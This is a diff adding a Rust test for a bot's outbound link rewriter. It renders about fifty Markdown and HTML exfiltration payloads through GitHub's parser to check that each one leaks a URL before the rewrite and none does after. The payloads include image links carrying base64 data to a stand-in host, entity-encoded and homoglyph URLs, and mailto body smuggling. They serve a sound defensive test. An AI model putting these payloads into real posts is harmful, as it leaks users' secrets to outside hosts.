@@ -1,0 +1,195 @@
+//! Links in what fro-bot posts (docs/security.md#links-in-what-fro-bot-posts), read by GitHub's
+//! own Markdown parser (cmark-gfm, with its extensions and raw HTML on, before GitHub's sanitizer
+//! — stricter than what GitHub renders): every attack below does put a URL of another host into
+//! the rendered page as written, and none does after `outbound::rewrite`.
+
+use std::io::Write;
+use std::process::{Command, Stdio};
+
+use fro_bot::egress::Allowlist;
+use fro_bot::outbound::policy::Verdict;
+use fro_bot::outbound::{rewrite, LinkPolicy};
+
+use crate::support::services::gfm_python;
+
+/// Renders each text as GitHub's parser does; returns every URL in a fetched or followed
+/// attribute of the HTML (character references undone by the HTML parser).
+const RENDER: &str = r#"
+import sys, json, cmarkgfm
+from cmarkgfm.cmark import Options
+from html.parser import HTMLParser
+URL = {"src", "href", "poster", "data", "action", "formaction", "background", "cite", "longdesc"}
+class P(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.urls = []
+    def handle_starttag(self, tag, attrs):
+        for k, v in attrs:
+            if v is None:
+                continue
+            if k in URL:
+                self.urls.append(v)
+            elif k == "srcset":
+                self.urls += [c.split()[0] for c in v.split(",") if c.split()]
+out = []
+for t in json.load(sys.stdin):
+    html = cmarkgfm.github_flavored_markdown_to_html(t, options=Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES)
+    p = P()
+    p.feed(html)
+    out.append({"html": html, "urls": p.urls})
+json.dump(out, sys.stdout)
+"#;
+
+#[derive(serde::Deserialize, Debug)]
+struct Rendered {
+    html: String,
+    urls: Vec<String>,
+}
+
+fn render(texts: &[String]) -> Vec<Rendered> {
+    let mut child = Command::new(gfm_python())
+        .args(["-c", RENDER])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let input = serde_json::to_vec(texts).unwrap();
+    child.stdin.take().unwrap().write_all(&input).unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "cmarkgfm failed");
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+fn policy() -> LinkPolicy {
+    LinkPolicy::new(
+        "https://github.com",
+        "octo/hello",
+        Allowlist::parse("docs.rs").unwrap(),
+    )
+}
+
+/// The URLs in `r` the policy would not keep as they are.
+fn not_kept(r: &Rendered) -> Vec<String> {
+    let p = policy();
+    r.urls
+        .iter()
+        .filter(|u| p.judge(u) != Verdict::Keep)
+        .cloned()
+        .collect()
+}
+
+const D: &str = "https://anywhere.example/p.png?d=c2VjcmV0";
+
+fn attacks() -> Vec<String> {
+    let long = "A".repeat(400);
+    vec![
+        format!("![chart]({D})"),
+        format!("[a report]({D} \"t\")"),
+        format!("<{D}>"),
+        format!("Look at {D} now"),
+        format!("www.anywhere.example/p?d=1"),
+        "https://anywhere.example/_x_?d=c2VjcmV0".into(),
+        "https://anywhere.example/*a*b?d=1".into(),
+        format!("[r] and [x][r]\n\n[r]: {D}\n"),
+        format!("<img src=\"{D}\">"),
+        format!("<p><img alt=x src='{D}'></p>\n\ntext"),
+        format!("<picture><source srcset=\"{D} 1x, a.png 2x\"><img src=\"a.png\"></picture>"),
+        "<img src=\"&#104;ttps&#58;//anywhere.example/p\">".into(),
+        "<a href=\"https&colon;//anywhere.example/p\">x</a>".into(),
+        "[x](https&#58;//anywhere.example/p)".into(),
+        "[x](https://%61nywhere.example/p)".into(),
+        "[x](//anywhere.example/p)".into(),
+        "[x](https://github.com@anywhere.example/p)".into(),
+        "[x](ws://anywhere.example/p)".into(),
+        "[x](smb://anywhere.example/share)".into(),
+        "[x](data:image/png;base64,AAAA)".into(),
+        "\\` ![](https://anywhere.example/q) `".into(),
+        "a ` b https://anywhere.example/z".into(),
+        "| a | b |\n|---|---|\n| ![](https://anywhere.example/x) | y |".into(),
+        "> quote <img\n> src=\"https://anywhere.example/p\">".into(),
+        "- item\n\n  <img src=\"https://anywhere.example/p\">".into(),
+        "[![a](https://anywhere.example/i.png)](https://anywhere.example/l)".into(),
+        format!("![x](https://github.com/a.png?d={long})"),
+        format!("https://github.com/x?d={long}"),
+        format!("<img src=\"https://github.com/a.png?d={long}\">"),
+        "<video src=\"https://anywhere.example/v.mp4\" poster=\"https://anywhere.example/p\"></video>"
+            .into(),
+        "[x]: https://anywhere.example/a\n\n[x]".into(),
+        "Footnote[^1].\n\n[^1]: ![](https://anywhere.example/f.png)".into(),
+        "[x](https://anywhere.example/a(b)c)".into(),
+        "[x]\n(https://anywhere.example/p)".into(),
+        "www.anywhere.example/_a_?d=1".into(),
+        "HTTPS://ANYWHERE.EXAMPLE/x".into(),
+        "https://\u{430}nywhere.example/x".into(),
+        "# ![](https://anywhere.example/h.png)".into(),
+        "<div>\n\n![](https://anywhere.example/d.png)\n\n</div>".into(),
+        "<img src=\"https://anywhere.example/p\"/>".into(),
+        "[x](<mailto:a@anywhere.example?body=c2VjcmV0>)".into(),
+        "*![](https://anywhere.example/e.png)*".into(),
+        "~~https://anywhere.example/s~~".into(),
+        "- [ ] task https://anywhere.example/t".into(),
+        "1. ![](https://anywhere.example/o.png)".into(),
+        "  ![](https://anywhere.example/i.png)".into(),
+        "a<br>![](https://anywhere.example/b.png)".into(),
+        "<a href=https://anywhere.example/u>x</a>".into(),
+        "<a\nhref=\"https://anywhere.example/m\">x</a>".into(),
+        "x https://anywhere.example/p?q=(a)b).".into(),
+        "[a](https://anywhere.example/1) [b](https://github.com/2) ![c](https://anywhere.example/3)"
+            .into(),
+    ]
+}
+
+#[test]
+fn every_attack_puts_another_hosts_url_on_the_page_and_none_does_after_the_rewrite() {
+    let attacks = attacks();
+    let before = render(&attacks);
+    let rewritten: Vec<String> = attacks.iter().map(|a| rewrite(a, &policy()).text).collect();
+    let after = render(&rewritten);
+    let mut wrong = Vec::new();
+    for (i, attack) in attacks.iter().enumerate() {
+        if not_kept(&before[i]).is_empty() {
+            wrong.push(format!(
+                "not an attack as GitHub reads it: {attack:?} → {}",
+                before[i].html
+            ));
+        }
+        if !not_kept(&after[i]).is_empty() {
+            wrong.push(format!(
+                "{attack:?}\n→ {:?}\n→ {}\nstill links {:?}",
+                rewritten[i],
+                after[i].html,
+                not_kept(&after[i])
+            ));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
+}
+
+#[test]
+fn what_the_policy_allows_renders_exactly_as_written() {
+    let kept: Vec<String> = vec![
+        "[PR #1](https://github.com/octo/hello/pull/1) and ![shot](docs/shot.png)".into(),
+        "See https://docs.rs/url and <https://raw.githubusercontent.com/octo/hello/main/a.png>".into(),
+        "<details><summary>Log</summary>\n\n```\ncurl https://anywhere.example/x\n```\n\n</details>"
+            .into(),
+        "<img src=\"https://github.com/octo/hello/raw/main/a.png\" width=\"40\">".into(),
+        "Inline `https://anywhere.example/code` stays code.".into(),
+        "| a | b |\n|---|---|\n| [x](https://octo.github.io/hello/) | y |".into(),
+        "Mail someone@anywhere.example or <a@anywhere.example>.".into(),
+        "    ![](https://anywhere.example/indented-code.png)".into(),
+    ];
+    for text in &kept {
+        let r = rewrite(text, &policy());
+        assert_eq!(&r.text, text);
+        assert!(r.findings.is_empty(), "{text}: {:?}", r.findings);
+    }
+    let rendered = render(&kept);
+    assert!(rendered.iter().all(|r| not_kept(r).is_empty()));
+    assert!(
+        rendered[0]
+            .html
+            .contains("href=\"https://github.com/octo/hello/pull/1\""),
+        "{}",
+        rendered[0].html
+    );
+}
